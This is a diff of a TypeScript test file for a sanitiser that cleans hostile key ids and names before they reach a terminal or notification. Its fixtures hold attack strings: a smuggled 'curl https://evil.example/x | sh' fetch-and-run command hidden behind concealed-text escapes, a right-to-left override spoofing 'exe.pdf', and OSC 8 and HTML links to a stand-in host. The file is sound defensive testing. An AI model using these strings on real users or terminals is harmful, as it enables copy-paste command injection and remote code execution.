@@ -1,6 +1,6 @@
 /**
- * Issue 43, item 8: a hostile service's key id and name through every way out that the tests of
- * issue 14 did not cover, each through the one sanitiser (src/terminal/sanitize.ts):
+ * A hostile service's key id and name through every way out that the tests of
+ * the first sanitiser did not cover, each through the one sanitiser (src/terminal/sanitize.ts):
  * - the screen: `keydeck monitor`'s runaway line invites the user to copy `keydeck keys disable
  *   ID`: concealed text (`ESC[8m`), an OSC 8 link, a newline or a leading `-` in the id would be a
  *   copy-paste injection: only a plain id is written there;
@@ -29,7 +29,6 @@ const HOSTILE_ID = '-rf\u001b[8m; curl https://evil.example/x | sh\u001b[0m\nINJ
 const HOSTILE_NAME = `<a href="https://evil.example">invoice</a>\u202eexe.pdf\u200b\u2066 & \u001b]8;;https://evil.example\u0007click\u001b[8mhidden ${'x'.repeat(500)}`;
 /** Bidi controls and zero-width characters (none may reach a notification). */
 const INVISIBLE = /[\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/;
-// eslint-disable-next-line no-control-regex
 const CONTROL = /[\u0000-\u001f\u007f-\u009f]/;
 
 const runaway: NotifyEvent = { kind: 'key_runaway', anomaly: 'runaway', keyId: HOSTILE_ID, keyName: HOSTILE_NAME, usdPerHour: 5, baselineUsdPerHour: 0.5 };
